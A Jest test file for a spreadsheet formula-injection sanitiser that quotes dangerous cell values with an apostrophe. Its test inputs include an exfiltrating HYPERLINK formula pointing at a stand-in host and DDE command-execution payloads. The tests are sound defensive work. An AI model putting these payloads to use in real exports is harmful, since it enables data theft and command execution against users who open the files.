import { neutraliseFormula } from './spreadsheet-cell';

describe('neutraliseFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
    ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
    ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['-A1', `'-A1`],
    ['-', `'-`],
  ])('quotes a cell a spreadsheet would run as a formula: %j', (cell, written) => {
    expect(neutraliseFormula(cell)).toBe(written);
  });

  it.each(['-125.50', '+3', '-1,234.00', '-0,5', '-42', '125.50', 'INV-001', 'Acme = Co', '', "'=1+1"])(
    'leaves plain numbers (negative ones included) and ordinary text as they are: %j',
    (cell) => {
      expect(neutraliseFormula(cell)).toBe(cell);
    },
  );

  it('is idempotent', () => {
    const once = neutraliseFormula('=1+1');
    expect(neutraliseFormula(once)).toBe(once);
  });
});

describe('neutraliseFormula on exports (cases from the console export)', () => {
  it.each(['=HYPERLINK("http://x","y")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])(
    'prefixes %j with an apostrophe',
    (value) => expect(neutraliseFormula(value)).toBe(`'${value}`),
  );

  it('leaves ordinary text alone, an inner = included', () => {
    for (const value of ['29AAFCM7314Q1ZT', 'Invalid GSTIN = wrong', '', 'a-b']) {
      expect(neutraliseFormula(value)).toBe(value);
    }
  });
});
